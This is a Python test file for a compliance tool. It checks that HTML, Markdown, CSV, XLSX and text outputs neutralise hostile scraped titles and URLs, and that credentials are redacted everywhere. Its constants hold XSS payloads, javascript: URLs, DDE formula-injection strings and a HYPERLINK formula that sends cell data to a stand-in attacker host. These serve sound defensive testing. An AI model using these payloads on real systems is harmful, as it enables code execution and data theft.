"""Hostile titles and URLs in every output format, formula injection, and credentials that must
never be written anywhere (logs, archive, fetch rows, the database, exports, error messages).

The hostile evidence is CONSTRUCTED and stored through write_source_result, as a source would
store a scraped title.
"""

from __future__ import annotations

import csv
import io
import json
import logging
from datetime import UTC, date, datetime
from pathlib import Path

import pytest

from . import harness
from .server import Good

MEASURE = "thb-directive-2011-36"
HOSTILE_TITLE = '<script>alert("t")</script><img src=x onerror=alert(1)> Lov nr. 1 \x1b[31mRED\x1b[0m\n# not a heading'
FORMULA_REFERENCE = '=HYPERLINK("http://evil.invalid/?"&A1,"click")'
FORMULAS = ["+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1"]
JS_URL = "javascript:alert(document.cookie)"
BREAKOUT_URL = 'https://example.org/"><script>alert(2)</script>'
MARKDOWN_TITLE = "[click me](javascript:alert(3)) | broken | table |"


def _seed_hostile() -> None:
    from compliance.config.settings import load_settings
    from compliance.refresh.run import _finish_run, _start_run, write_source_result
    from compliance.sources.base import CoverageItem, FoundItem, SourceResult
    from compliance.store.engine import Store
    from tests.fake_source import fetch

    store = Store.open(load_settings().db_url)
    run_id = _start_run(store, "refresh")
    fr = fetch(b'{"hostile": true}')
    items = [
        FoundItem(key="72011L0036SWE_1", kind="national-measure", measure_id=MEASURE, member_state="SE",
                  date=date(2013, 4, 1), title=HOSTILE_TITLE, reference=FORMULA_REFERENCE, url=JS_URL, fetch=fr),
        FoundItem(key="72011L0036FIN_1", kind="national-measure", measure_id=MEASURE, member_state="FI",
                  date=date(2013, 4, 1), title=FORMULAS[0], reference=FORMULAS[1], url=BREAKOUT_URL, fetch=fr),
        FoundItem(key="72011L0036DEU_1", kind="national-measure", measure_id=MEASURE, member_state="DE",
                  date=date(2013, 4, 1), title=MARKDOWN_TITLE, reference=FORMULAS[2], url="https://example.org/de",
                  fetch=fr),
    ]
    result = SourceResult(findings=items, coverage=[CoverageItem(MEASURE, "ok", "*", "searched", fr)], fetches=[fr])
    write_source_result(store, run_id, "eurlex", result, started_at=datetime.now(UTC))
    _finish_run(store, run_id, "ok", {})


def _check(run_cli, fmt: str) -> str:  # noqa: ANN001
    code, out, err = run_cli("check", "-m", "SE", "-m", "FI", "-m", "DE", "--measure", MEASURE, "--format", fmt,
                             "--fail-on", "never")
    assert code == 0, err
    return out


def _assert_html_safe(html: str) -> None:
    assert "<script>" not in html.lower()
    assert "onerror=alert" not in html.replace("&#34;", '"').split("<img")[-1] or "<img src=x" not in html
    assert "<img src=x" not in html
    assert 'href="javascript:' not in html.lower() and "href='javascript:" not in html.lower()
    assert '"><script>' not in html
    assert "&lt;script&gt;" in html or "%3Cscript%3E" in html  # shown escaped, or percent-encoded in a link


def _assert_csv_defused(text: str, *, require_hostile: bool = True) -> None:
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    hostile = [c for c in cells if any(f.lstrip("=+-@") in c for f in [FORMULA_REFERENCE, *FORMULAS])]
    assert hostile or not require_hostile, "the hostile values are not in the CSV at all"
    for cell in cells:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        if cell.startswith("-"):
            assert cell[1:2].isdigit() and not any(ch in cell for ch in "+|!("), cell


def test_check_formats_escape_hostile_titles_and_urls(run_cli):
    _seed_hostile()
    text = _check(run_cli, "text")
    assert "\x1b" not in text  # no terminal escape from a scraped title
    data = json.loads(_check(run_cli, "json"))
    titles = {e["title"] for r in data for a in r["assessments"] for e in a["evidence"]}
    assert HOSTILE_TITLE in titles  # JSON keeps the exact value (escaped by the encoder)
    check_csv = _check(run_cli, "csv")  # assessments only: evidence URLs, no titles
    assert JS_URL in check_csv
    _assert_csv_defused(check_csv, require_hostile=False)
    markdown = _check(run_cli, "markdown")
    assert "<script>" not in markdown and "](javascript:" not in markdown
    assert "\n# not a heading" not in markdown
    _assert_html_safe(_check(run_cli, "html"))


def test_export_bundle_escapes_and_defuses(run_cli, tmp_path):
    from openpyxl import load_workbook

    _seed_hostile()
    out = tmp_path / "bundle"
    code, stdout, err = run_cli("export", "-m", "SE", "-m", "FI", "-m", "DE", "--measure", MEASURE, "--format",
                                "html,xlsx,csv,json,markdown", "--out", str(out))
    assert code == 0, err
    htmls = list(out.rglob("*.html"))
    assert htmls
    for page in htmls:
        text = page.read_text("utf-8")
        assert "<script>" not in text.lower() and 'href="javascript:' not in text.lower(), page
        assert "<img src=x" not in text and '"><script>' not in text, page
    for path in out.rglob("*.csv"):
        _assert_csv_defused(path.read_text("utf-8"), require_hostile=path.name == "evidence.csv")
    for path in out.rglob("*.md"):
        text = path.read_text("utf-8")
        assert "<script>" not in text and "](javascript:" not in text, path
    for path in out.rglob("*.json"):
        json.loads(path.read_text("utf-8"))
    seen_hostile = False
    for path in out.rglob("*.xlsx"):
        wb = load_workbook(path)
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (path, ws.title, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        assert not cell.value.startswith(("=", "+", "@")), (path, cell.coordinate, cell.value)
                        seen_hostile |= "HYPERLINK" in cell.value
                    if cell.hyperlink is not None:
                        assert not str(cell.hyperlink.target or "").lower().startswith("javascript:")
    assert seen_hostile, "the hostile reference is not in the XLSX at all"


def test_digest_formats_escape_hostile_titles(run_cli):
    _seed_hostile()
    code, html, err = run_cli("digest", "--since", "7d", "--format", "html", "-m", "SE", "-m", "FI", "-m", "DE")
    assert code == 0, err
    assert "<script>" not in html.lower() and 'href="javascript:' not in html.lower() and "<img src=x" not in html
    code, md, _ = run_cli("digest", "--since", "7d", "--format", "markdown", "-m", "SE", "-m", "FI", "-m", "DE")
    assert code == 0 and "<script>" not in md and "](javascript:" not in md
    code, text, _ = run_cli("digest", "--since", "7d", "--format", "text", "-m", "SE", "-m", "FI", "-m", "DE")
    assert code == 0 and "\x1b" not in text


# --- credentials ------------------------------------------------------------------------------------

MARKERS = {
    "COMPLIANCE_SMTP_PASSWORD": "smtp-pw-MARKER-7f3a91c2",
    "COMPLIANCE_COE_TOKEN": "coe-token-MARKER-5be2d0a4",
    "COMPLIANCE_PISTE_CLIENT_SECRET": "piste-secret-MARKER-c81e66f0",
}
BEARER = "bearer-MARKER-19d4ab77"
ALL_MARKERS = [*MARKERS.values(), BEARER]


def _grep(path: Path) -> list[str]:
    hits = []
    for file in [path] if path.is_file() else sorted(path.rglob("*")):
        if file.is_file():
            data = file.read_bytes()
            hits += [f"{file}: {m}" for m in ALL_MARKERS if m.encode() in data]
    return hits


def test_credentials_never_written_anywhere(run_cli, server, monkeypatch, caplog, tmp_path, isolated_state):
    for var, value in MARKERS.items():
        monkeypatch.setenv(var, value)
    monkeypatch.setenv("COMPLIANCE_PISTE_CLIENT_ID", "piste-client-id")
    caplog.set_level(logging.DEBUG)
    outputs: list[str] = []

    # coe-treaties sends the token in a header; gazette-fr trades its client secret for a bearer token.
    coe, fr = harness.setup_for("coe-treaties"), harness.setup_for("gazette-fr")
    for setup in (coe, fr):
        harness.prepare(setup, server, monkeypatch)
    assert __import__("os").environ["COMPLIANCE_COE_TOKEN"] == MARKERS["COMPLIANCE_COE_TOKEN"]
    harness.fast_backoff(monkeypatch)
    harness.write_config(Path("compliance.toml"), timeout=5, max_retries=1)
    with open("compliance.toml", "a", encoding="utf-8") as fh:
        fh.write('[smtp]\nhost = "127.0.0.1"\nport = 9\nusername = "robot"\nfrom = "robot@example.org"\n'
                 'to = ["coordinator@example.org"]\ntimeout = 2\n')
    server.route(r"/api/signatures", Good(harness.fixture("coe_treaties", "signatures_211_constructed.json")))
    server.route(r"^POST /gazette-fr/gazette_fr_oauth",
                 Good(json.dumps({"access_token": BEARER, "token_type": "Bearer", "expires_in": 3600}).encode()))
    server.route(r"^POST /gazette-fr/", Good(b'{"results": [], "totalResultNumber": 0}'))
    for setup in (coe, fr):
        code, out, err = run_cli(*setup.refresh_args())
        outputs += [out, err]
        assert code == 0, (out, err)
    assert any(h.headers.get("token") == MARKERS["COMPLIANCE_COE_TOKEN"] for h in server.hits)
    assert any(h.headers.get("authorization") == f"Bearer {BEARER}" for h in server.hits)
    assert any(MARKERS["COMPLIANCE_PISTE_CLIENT_SECRET"].encode() in h.body for h in server.hits)

    # Failures: the token refused, the OAuth server echoing the secret in its error, a 500.
    server.routes.clear()
    server.route(r"/api/signatures", Good(b'{"Message": "Authorization has been denied"}', status=401))
    server.route(r"^POST /gazette-fr/gazette_fr_oauth",
                 lambda req: Good(json.dumps({"error": "invalid_client " + req.body.decode()}).encode(), status=401))
    for setup in (coe, fr):
        code, out, err = run_cli(*setup.refresh_args())
        outputs += [out, err]
        # A refused credential is "unavailable" (reported, exit 0) or "failed" (exit 4), never ok.
        assert code in (0, 4) and f"{setup.name}: " in out, (out, err)
        assert harness.last_source_run(setup.name).status in ("unavailable", "failed"), out
    server.routes.clear()
    server.default = "http-500"
    for setup in (coe, fr):
        code, out, err = run_cli(*setup.refresh_args())
        outputs += [out, err]

    for args in (("check", "--format", "json"), ("sources", "--format", "json"), ("diff", "--since", "7d"),
                 ("digest", "--since", "7d", "--format", "html"), ("digest", "--send")):
        code, out, err = run_cli(*args)
        outputs += [out, err]
        assert code in (0, 1, 4), (args, err)
    code, out, err = run_cli("export", "-m", "DK", "--out", str(tmp_path / "bundle"), "--with-archive")
    outputs += [out, err]
    assert code == 0, err

    assert [m for m in ALL_MARKERS if any(m in o for o in outputs)] == []
    assert [m for m in ALL_MARKERS if m in caplog.text] == []
    assert _grep(isolated_state) == []  # the database, the archive, the lock
    assert _grep(tmp_path / "bundle") == []
    from sqlalchemy import select

    from compliance.config.settings import load_settings
    from compliance.store import tables
    from compliance.store.engine import Store

    store = Store.open(load_settings().db_url)
    with store.session() as session:
        rows = session.execute(select(tables.Fetch)).scalars().all()
        runs = session.execute(select(tables.SourceRun)).scalars().all()
    assert rows and runs
    dumped = json.dumps([[r.url, r.final_url, r.request] for r in rows] + [[r.reason] for r in runs])
    assert [m for m in ALL_MARKERS if m in dumped] == []
    assert "REDACTED" in dumped  # the token header and the bearer were recorded as redacted


URL_SECRET = "urlkey-MARKER-0b9e55d1"


@pytest.mark.parametrize("fault", ["http-500", "connection-reset", "timeout"])
def test_errors_with_a_secret_in_the_url_are_redacted(fault, server, run_cli, monkeypatch, isolated_state):
    """An endpoint configured with a password in its URL (https://user:password@host/…) never shows it.

    (A key in the endpoint's query string cannot be tested through eurlex: with httpx 0.28 the
    `params` of a GET replace the URL's own query string, so such a key is never even sent.)
    """
    import base64

    monkeypatch.setenv("COMPLIANCE_ENDPOINT_EURLEX_SPARQL", server.url("/sparql").replace(
        "http://", f"http://robot:{URL_SECRET}@"))
    harness.fast_backoff(monkeypatch)
    harness.write_config(Path("compliance.toml"), timeout=0.5, max_retries=0)
    server.default = fault
    code, out, err = run_cli("refresh", "--source", "eurlex", "--measure", MEASURE)
    assert code == 4
    sent = [base64.b64decode(h.headers.get("authorization", "Basic ").split()[-1]) for h in server.hits]
    assert URL_SECRET.encode() in b"".join(sent)  # it was sent ...
    assert URL_SECRET not in out + err  # ... and is in no message
    for path in isolated_state.rglob("*"):
        assert not path.is_file() or URL_SECRET.encode() not in path.read_bytes(), path


def test_sources_command_redacts_endpoint_urls(run_cli, monkeypatch):
    monkeypatch.setenv("COMPLIANCE_ENDPOINT_EURLEX_SPARQL", f"http://robot:{URL_SECRET}@127.0.0.1:9/sparql")
    code, out, _ = run_cli("sources", "--format", "json")
    assert code == 0
    assert URL_SECRET not in out
